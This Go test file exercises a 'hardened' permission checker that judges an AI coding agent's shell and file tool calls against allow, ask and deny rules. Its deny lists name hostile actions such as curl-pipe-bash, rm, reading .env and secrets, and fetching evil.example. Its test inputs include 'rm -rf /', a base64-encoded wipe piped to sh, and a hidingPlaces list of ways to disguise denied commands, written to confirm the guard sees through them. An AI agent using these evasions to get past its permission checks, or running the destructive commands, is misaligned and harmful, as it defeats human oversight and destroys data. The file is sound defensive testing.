package permission_test

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/gatehouse-go/gatehouse/permission"
)

var guarded = lists("allow:", "Bash", "Edit(src/**)", "ask:", "Bash(git commit *)", "Edit(ci/**)",
	"deny:", "Bash(rm *)", "Bash(git push --force*)", "Bash(curl * | bash)", "Bash(kubectl delete *)", "Bash(npm publish)", "Read(./.env)", "Read(./secrets/**)", "Edit(./protected/**)", "WebFetch(domain:evil.example)")

func hardened(t testing.TB, settings string) *permission.Policy {
	t.Helper()
	cfg := config(parse(t, permission.Project, settings))
	cfg.Harden = true
	return compile(t, cfg)
}

// What decided is said, and what it was seen through.
func TestHarden(t *testing.T) {
	p := hardened(t, guarded)
	for _, c := range []struct{ command, want string }{
		{"git status", "allow: Bash — project settings, .claude/settings.json:1:26"},
		{"bash -c 'rm x'", "deny: Bash(rm *) (seen through bash -c)"},
		{"X=rm; eval $X y", "deny: Bash(rm *) (seen through eval)"},
		{"sudo env A=1 bash -c 'eval \"rm x\"'", "deny: Bash(rm *) (seen through sudo › env › bash -c › eval)"},
		{"git -C . push origin -f", "deny: Bash(git push --force*) (seen through another spelling)"},
		{"git push origin +main", "deny: Bash(git push --force*) (seen through another spelling)"},
		{"sudo npm publish", "deny: Bash(npm publish)"},
		{"find . -name '*.tmp' -delete", "deny: Bash(rm *) (seen through another command of the same effect)"},
		{"bash <(curl -s x.sh)", "deny: Bash(curl * | bash) (seen through a shell that runs what is fetched)"},
		{"python3 -c 'print(open(\".env\").read())'", "deny: Read(./.env) (seen through python › a file named to python)"},
		{"xxd secrets/key", "deny: Read(./secrets/**) (seen through a file named to xxd)"},
		{"echo x | dd of=protected/a", "deny: Edit(./protected/**) (seen through a file named to dd)"},
		{"wget https://evil.example/x", "deny: WebFetch(domain:evil.example) (seen through a URL named to wget)"},
		{"bash -c 'git commit -m x'", "ask: Bash(git commit *) (seen through bash -c)"},
		{"sh -c 'rm -rf /'", "deny: Bash(rm *) (seen through sh -c)"},
		{"$CMD x", "ask: not analysable: it runs a program whose name is only known when it runs"},
		{"curl x | python3", "ask: not analysable: it runs as a program what is only known when it runs (seen through python)"},
		{"mytool --then 'rm x'", "ask: not analysable: it may run a command that a rule is about: Bash(rm *) (seen through mytool)"},
		{"cat .e*", "ask: not analysable: a pattern of file names may stand for a file that a rule is about: Read(./.env) (seen through a pattern of file names)"},
		{"echo 'rm -rf /' >> notes.md", "allow: Bash — project settings, .claude/settings.json:1:26"},
		{"grep -rn 'rm -rf' docs", "allow: Bash — project settings, .claude/settings.json:1:26"},
	} {
		got := p.Check(bash(c.command)).String()
		if i := strings.Index(got, " — project settings"); i >= 0 && !strings.HasPrefix(got, "allow") {
			_, through, _ := strings.Cut(got, " (seen")
			got = got[:i]
			if through != "" {
				got += " (seen" + through
			}
		}
		require.Equal(t, c.want, got, c.command)
	}
}

// Without rules there is nothing to evade, but critical paths are still looked
// for.
func TestHardenWithoutRules(t *testing.T) {
	p := hardened(t, lists("allow:", "Bash"))
	for command, want := range map[string]permission.Decision{
		"$CMD x": permission.Allow, "curl x | bash": permission.Allow, "bash -c 'rm x'": permission.Allow,
		"echo cm0gLXJmIC8= | base64 -d | sh": permission.Ask, "python3 -c 'import shutil; shutil.rmtree(\"/\")'": permission.Ask,
		strings.Repeat("timeout 5 ", 40) + "bash -c 'python3 -c \"import os; os.system(1)\"'": permission.Ask, // too deep to be followed
		"bash -c 'rm -rf \"/'":               permission.Ask,
		"X=$'a\\rb'; eval 'rm -rf / \"$X\"'": permission.Ask,
	} {
		require.Equal(t, want, p.Check(bash(command)).Decision, command)
	}
}

// Rules that the client accepts and never consults are consulted.
func TestHardenConsults(t *testing.T) {
	settings := lists("allow:", "Skill", "Edit", "deny:", "Write(gen/**)", "Grep(vault/**)", "Read(./.env)", "ask:", "Skill(deploy)", "Agent(Plan)")
	faithful, hard := project(t, settings), hardened(t, settings)
	for _, c := range []struct {
		req              permission.Request
		faithful, harden permission.Decision
	}{
		{call("Write", "file_path", "gen/a.go"), permission.Ask, permission.Deny},
		{call("Edit", "file_path", "gen/a.go"), permission.Allow, permission.Deny},
		{call("Read", "file_path", "vault/k"), permission.Allow, permission.Deny},
		{call("Skill", "skill", "deploy"), permission.Allow, permission.Ask},
		{call("NotebookEdit", "notebook_path", ".env"), permission.Ask, permission.Deny},
	} {
		require.Equal(t, c.faithful, faithful.Check(c.req).Decision, "%s %s", c.req.Tool, c.req.Input)
		require.Equal(t, c.harden, hard.Check(c.req).Decision, "%s %s", c.req.Tool, c.req.Input)
	}
}

// Hardening loosens no answer that was measured, in any mode.
func TestHardenNeverLoosens(t *testing.T) {
	for _, settings := range []string{guarded, lists("allow:", "Bash(npm *)", "Bash(bash *)", "deny:", "Bash(rm:*)"), lists("ask:", "Bash(git *)", "Edit(**)"), "{}"} {
		faithful, hard := project(t, settings), hardened(t, settings)
		for i, command := range measuredCommands(t) {
			req := bash(command)
			req.Mode = modes[i%len(modes)]
			require.LessOrEqual(t, hard.Check(req).Decision, faithful.Check(req).Decision, "%s in mode %s", command, req.Mode)
		}
	}
}

// hidingPlaces are ways to run a command that only hardened mode sees through.
func hidingPlaces(command string) []string {
	quoted := "'" + strings.ReplaceAll(command, "'", `'\''`) + "'"
	return []string{
		"bash -c " + quoted, "eval " + quoted, "env A=1 sh -ec " + quoted, "echo " + quoted + " | sh", "sh <<< " + quoted,
		"echo " + base64.StdEncoding.EncodeToString([]byte(command)) + " | base64 -d | bash",
		"X=" + quoted + "; bash -c \"$X\"", "ssh host " + quoted, "f() { " + command + "\n}; f", "trap " + quoted + " EXIT",
		"find . -exec sh -c " + quoted + " \\;", "xargs -I{} sh -c " + quoted, "nix-shell --run " + quoted,
	}
}

// What is denied stays so wherever it hides.
func TestHardenSeesThrough(t *testing.T) {
	p := hardened(t, guarded)
	n := 0
	for _, command := range append(measuredCommands(t), "rm x", "git push --force", "cat .env", "kubectl -n x delete pod y") {
		if strings.ContainsAny(command, "\x00\r") || !plainCommand(command) {
			continue
		}
		if r := p.Check(bash(command)); r.Decision != permission.Deny || r.Cause != permission.ByRule {
			continue
		}
		n++
		for _, hidden := range hidingPlaces(command) {
			require.NotEqual(t, permission.Allow, p.Check(bash(hidden)).Decision, hidden)
		}
	}
	require.Greater(t, n, 50)
}

// plainCommand reports a command that means the same wherever it stands.
func plainCommand(command string) bool {
	return !strings.ContainsAny(command, "'\"\\`$!#\n<&~") && strings.TrimSpace(command) == command
}

func FuzzHarden(f *testing.F) {
	for _, c := range measuredCommands(f) {
		if len(c) < 80 {
			f.Add(c, uint8(len(c)))
		}
	}
	for _, h := range hidingPlaces("rm x") {
		f.Add(h, uint8(0))
	}
	faithful, hard := project(f, guarded), hardened(f, guarded)
	base := config(parse(f, permission.Project, guarded), parse(f, permission.User, lists("deny:", "Bash(ls *)", "Read(src/**)", "ask:", "Bash(make:*)")))
	base.Harden = true
	more := compile(f, base)
	f.Fuzz(func(t *testing.T, command string, mode uint8) {
		if len(command) > 2000 {
			return
		}
		req := bash(command)
		req.Mode = modes[int(mode)%len(modes)]
		a, b, c := faithful.Check(req), hard.Check(req), more.Check(req)
		for _, r := range []permission.Result{a, b, c} {
			require.NotContains(t, r.Reason, "internal error")
		}
		require.LessOrEqual(t, b.Decision, a.Decision, "hardening loosens")
		if b.Cause != permission.BySafety && c.Cause != permission.BySafety { // an ask rule turns that denial into a question, as in the client
			require.LessOrEqual(t, c.Decision, b.Decision, "more rules loosen: %s, was %s", c, b)
		}
	})
}

func BenchmarkHarden(b *testing.B) {
	p := hardened(b, manySettings(100))
	for _, c := range commands {
		b.Run("command="+c.name, func(b *testing.B) {
			req := bash(c.text)
			b.ReportAllocs()
			for b.Loop() {
				p.Check(req)
			}
		})
	}
}

// In hardened mode, what a command hides counts.
func ExampleConfig_harden() {
	settings, err := permission.ParseSettings(permission.Project, "/p/.claude/settings.json", []byte(`{"permissions": {"allow": ["Bash"], "deny": ["Bash(rm *)"]}}`))
	if err != nil {
		fmt.Println(err)
		return
	}
	policy, err := permission.New(permission.Config{Project: "/p", Home: "/home/u", Settings: []*permission.Settings{settings}, Harden: true})
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println(policy.Check(permission.Request{Tool: "Bash", Input: []byte(`{"command": "X=rm; sudo bash -c \"$X -fr /srv\""}`)}))
	// Output: deny: Bash(rm *) — project settings, .claude/settings.json:1:46 (seen through sudo › bash -c)
}
